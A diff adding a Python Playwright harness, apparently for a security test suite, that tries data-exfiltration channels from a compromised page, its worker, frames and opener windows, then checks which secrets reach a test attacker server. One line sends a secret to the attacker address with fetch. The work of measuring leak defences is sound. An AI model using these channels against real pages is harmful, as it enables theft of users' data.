@@ -1,0 +1,265 @@
+"""One raid: ways out tried from one page and its worker, by somebody whose code already runs there.
+
+What a way does is never waited for, only what arrives: a page that is led elsewhere, or brought down, gives no answer.
+"""
+
+import json
+import time
+from collections.abc import Collection, Iterator, Sequence
+from contextlib import contextmanager, suppress
+from dataclasses import dataclass, field
+from typing import Any
+
+from playwright.sync_api import BrowserContext, Error, Frame, Page, Worker
+
+from attack.answers import AROUND, OPENER
+from attack.attacker import Attacker
+from attack.left_behind import find
+from attack.own_host import BARE
+from attack.places import Place
+from attack.tries import Try, new_secret, tries
+from attack.ways import SAID, TRY, Way
+
+# How long to wait for what is expected to arrive: far above what a busy machine needs.
+PATIENCE = 20.0
+# How many tabs are attacked at once.
+ABREAST = 4
+
+# Between two ways: takes away what one has laid over the page, and tells whether it is the same page still. A page that
+# has been loaded again, or left, is another, in which what we put into the first is missing.
+_MARK = "() => void (globalThis.raided = true)"
+_CLEAR_AWAY = """() => {
+  for (const left of document.querySelectorAll("#cover, base")) left.remove();
+  if (location.search) history.replaceState(null, "", location.pathname);
+  return globalThis.raided === true;
+}"""
+
+
+@dataclass
+class Raid:
+    """The attacker's hand in one browser, on one page."""
+
+    context: BrowserContext
+    attacker: Attacker
+    place: Place
+    # By name, the ways that are expected to get through, and so are waited for.
+    expected: Collection[str] = ()
+    # How long to listen, in seconds, for what is not expected: after many ways, and after a few.
+    settle: float = 2.0
+    settle_few: float = 0.4
+    # What was found: the longest that anything took to arrive, and what each way said, for who wonders why one does not
+    # work.
+    slowest: float = field(default=0.0, init=False)
+    said: dict[str, str] = field(default_factory=dict, init=False)
+    _tried: list[Try] = field(default_factory=list, init=False)
+
+    @property
+    def arrived(self) -> set[str]:
+        """The names of the ways that got through, however late."""
+        heard = self.attacker.heard
+        return {each.way.name for each in self._tried if heard.when(each.secret) is not None}
+
+    def from_worker(self, worker: Worker, ways: Sequence[Way]) -> None:
+        """Try all that a worker may have."""
+        with self._tries([way for way in ways if way.in_worker]) as tries:
+            self._start(worker, tries)
+            self._wait_until_said(worker, tries)
+            find(self.context, self.place.second, self.attacker.address)
+            self._listen(tries, self.settle)
+
+    def from_page(self, page: Page, ways: Sequence[Way]) -> None:
+        """Try these ways in a page that is ready; it may be another in the end, or gone."""
+        tried = {
+            manner: [way for way in ways if way.tried == manner and not way.only_in_worker]
+            for manner in ("together", "windows", "left", "alone", "click", "leaving", "last")
+        }
+        page.bring_to_front()
+        _ask(page, _MARK)
+        self._together(page, tried["together"])
+        # Before the service worker has the page: what is sent on leaving is sometimes lost on its way through it.
+        self._leaving(page, tried["leaving"])
+        if several := [*tried["windows"], *tried["left"]]:
+            page = self._as_new(page)
+            self._together(page, several)
+        page = self._abreast(page, tried["alone"])
+        for way in tried["click"]:
+            page = self._as_new(page)
+            self.close_others(page)
+            page.bring_to_front()
+            self.alone(page, way)
+        for way in tried["last"]:
+            self.close_others()
+            self.alone(self.open(again=True), way)
+
+    def from_elsewhere(self, ways: Sequence[Way]) -> None:
+        """Try what takes a hostile page that opened this one or holds it in a frame, or the site's service worker."""
+        tried = {
+            manner: [way for way in ways if way.tried == manner]
+            for manner in ("opened", "kept", "framed")
+        }
+        if tried["opened"] or tried["kept"]:
+            self.place.host.offer_service_worker()
+            page = self._opened()
+            for way in tried["opened"]:
+                self.alone(page, way)
+            self._together(page, tried["kept"])
+            self.close_others()
+        if tried["framed"] and (frame := self._framed()):
+            for way in tried["framed"]:
+                self.alone(frame, way)
+            self.close_others()
+
+    def alone(self, target: Page | Frame, way: Way) -> None:
+        """Try one way."""
+        with self._tries([way]) as tries:
+            self._start(target, tries)
+            if way.tried == "click" and isinstance(target, Page):
+                self._wait_until_covered(target)
+                target.mouse.click(200, 200)
+            self._listen(tries, self.settle_few)
+
+    def open(self, *, again: bool = False) -> Page:
+        """Open the page in a tab of its own, and wait until it is ready."""
+        page = self.context.new_page()
+        page.goto(self.place.address)
+        (self.place.ready_again if again else self.place.ready)(page)
+        return page
+
+    def close_others(self, *kept: Page) -> None:
+        """Close every page but these and the one to knock from."""
+        for other in self.context.pages[1:]:
+            if other not in kept:
+                other.close()
+
+    def _opened(self) -> Page:
+        opener = self.context.new_page()
+        opener.goto(f"{self.attacker.address}{OPENER}?open={self.place.address}")
+        with self.context.expect_page() as opened:
+            opener.evaluate("open_it()")
+        self.place.ready_again(opened.value)
+        return opened.value
+
+    def _framed(self) -> Frame | None:
+        """Return the frame; nothing where the page cannot be had in one."""
+        around = self.context.new_page()
+        around.goto(f"{self.attacker.address}{AROUND}?open={self.place.address}")
+        frame = around.frames[-1]
+        if not frame.url.startswith(self.place.host.address):
+            return None
+        if frame.locator("[data-framed]").is_visible():
+            return None
+        self.place.ready_again(frame)
+        return frame
+
+    def _as_new(self, page: Page) -> Page:
+        """Return a page that is where it was: a new one if a way has led this one elsewhere."""
+        with suppress(Error):
+            if _ask_even_if_led_away(page, _CLEAR_AWAY):
+                return page
+        page.close()
+        page = self.open(again=True)
+        _ask(page, _MARK)
+        return page
+
+    def _together(self, page: Page, ways: Sequence[Way]) -> None:
+        if not ways:
+            return
+        with self._tries(ways) as tries:
+            self._start(page, tries)
+            self._wait_until_said(page, tries)
+            if any(way.tried in ("left", "kept") for way in ways):
+                find(self.context, self.place.second, self.attacker.address)
+            self._listen(tries, self.settle)
+        self.close_others(page)
+
+    def _leaving(self, page: Page, ways: Sequence[Way]) -> None:
+        if not ways:
+            return
+        with self._tries(ways) as tries:
+            self._start(page, tries)
+            page.goto(self.place.second)
+            self._listen(tries, self.settle)
+
+    def _abreast(self, page: Page, ways: Sequence[Way]) -> Page:
+        """Try ways that may lead a page elsewhere, each from a tab of its own; return one of the tabs."""
+        tabs = [page]
+        for start in range(0, len(ways), ABREAST):
+            batch = ways[start : start + ABREAST]
+            self.close_others(*tabs)
+            tabs = [self._as_new(tab) for tab in tabs]
+            while len(tabs) < len(batch):
+                tabs.append(self.open(again=True))
+                _ask(tabs[-1], _MARK)
+            with self._tries(batch) as tries:
+                for tab, one in zip(tabs, tries, strict=False):
+                    self._start(tab, [one])
+                self._listen(tries, self.settle_few)
+        return tabs[0]
+
+    @contextmanager
+    def _tries(self, ways: Sequence[Way]) -> Iterator[list[Try]]:
+        with tries(ways, self.attacker, self.place.host.address) as made:
+            self._tried += made
+            yield made
+
+    def _start(self, target: Page | Frame | Worker, tries: Sequence[Try]) -> None:
+        pairs = [[each.way.name, each.goal] for each in tries]
+        if len(tries) == 1 and isinstance(target, Page):
+            _ask_even_if_led_away(target, TRY, pairs)
+        else:
+            _ask(target, TRY, pairs)
+
+    def _wait_until_covered(self, page: Page) -> None:
+        until = time.monotonic() + PATIENCE
+        while not _ask_even_if_led_away(page, "() => document.getElementById('cover') !== null"):
+            page.wait_for_timeout(20)
+            assert time.monotonic() < until, "nothing to click"
+
+    def _wait_until_said(self, target: Page | Worker, tries: Sequence[Try]) -> None:
+        """Wait until each way has come to an end or has waited long enough: some leave a thing that is to be found."""
+        until = time.monotonic() + PATIENCE
+        said: dict[str, str] = {}
+        while len(said) < len(tries) and time.monotonic() < until:
+            self.context.pages[0].wait_for_timeout(50)
+            said = _ask(target, SAID)
+        self.said |= said
+
+    def _listen(self, tries: Sequence[Try], settle: float) -> None:
+        """Wait for what is expected, then a while for what is not."""
+        heard = self.attacker.heard
+        start = time.monotonic()
+        heard.wait_for([each.secret for each in tries if each.way.name in self.expected], PATIENCE)
+        rest = [each.secret for each in tries if each.way.name not in self.expected]
+        if rest:
+            self._knock()
+            heard.wait_for(rest, settle)
+        times = [when for each in tries if (when := heard.when(each.secret)) is not None]
+        self.slowest = max(self.slowest, *(when - start for when in times), 0.0)
+
+    def _knock(self) -> None:
+        """See something arrive from the same browser: silence counts only where a sound is heard."""
+        secret = new_secret("knock")
+        page = self.context.pages[0]
+        if not page.url.endswith(BARE):
+            page.goto(f"{self.place.host.address}{BARE}")
+        _ask(page, "address => void fetch(address)", f"{self.attacker.address}/{secret}")
+        assert self.attacker.heard.wait_for([secret], PATIENCE), "the attacker hears nothing at all"
+
+
+def _ask(target: Page | Frame | Worker, script: str, about: object = None) -> Any:
+    """Run a function of one argument there; return what it returns.
+
+    In a page bound to an element that is there, since `page.evaluate` has no time limit.
+    """
+    if isinstance(target, Worker):
+        return target.evaluate(script, about)
+    function = f"(_, about) => ({script})(about)"
+    return target.locator("html").evaluate(function, about, timeout=PATIENCE * 1000)
+
+
+def _ask_even_if_led_away(page: Page, script: str, about: object = None) -> Any:
+    """Do the same past Playwright, which takes a page for one that is being left once a way out was stopped halfway."""
+    session = page.context.new_cdp_session(page)
+    call = f"({script})({json.dumps(about)})"
+    asked = {"expression": call, "returnByValue": True, "userGesture": True}
+    return session.send("Runtime.evaluate", asked)["result"].get("value")
